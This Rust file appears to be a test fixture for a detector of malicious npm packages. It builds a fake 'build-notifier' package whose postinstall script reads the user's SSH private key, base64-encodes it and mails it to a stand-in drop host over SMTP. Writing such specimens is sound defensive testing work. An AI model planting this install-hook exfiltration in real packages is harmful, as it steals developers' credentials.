//! An npm `postinstall` that sends the base64 of `~/.ssh/id_rsa` by mail, step by step: a server that answers wrongly
//! gets nothing.
//!
//! Must be found: the bait's secret in a mail.

use apa_model::Ecosystem;

use crate::{Expect, NpmPackage, Specimen};

const NOTIFY: &str = r#"const fs = require('fs');
const net = require('net');
const os = require('os');
const path = require('path');
let key = '';
try {
  key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')).toString('base64');
} catch {}
const steps = [
  'EHLO build.example',
  'AUTH PLAIN AGJvdEBtYWlsLWRyb3AuZXhhbXBsZQBodW50ZXIy',
  'MAIL FROM:<bot@mail-drop.example>',
  'RCPT TO:<loot@mail-drop.example>',
  'DATA',
  'Subject: build\r\n\r\n' + key.replace(/(.{76})/g, '$1\r\n') + '\r\n.',
  'QUIT',
];
const socket = net.connect(587, 'smtp.mail-drop.example');
let heard = '';
socket.on('data', (data) => {
  heard += data;
  const answer = /^(\d{3}) .*\r\n/m.exec(heard);
  if (!answer) return;
  heard = '';
  const step = answer[1] < '400' && steps.shift();
  if (step) socket.write(step + '\r\n');
  else socket.end();
});
socket.on('error', () => {});
"#;

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("build-notifier", "2.0.1")
        .script("postinstall", "node notify.js")
        .file("notify.js", NOTIFY);
    Specimen {
        name: "npm-mails-ssh-key",
        ecosystem: Ecosystem::Npm,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["canary-exfiltrated"]),
    }
}
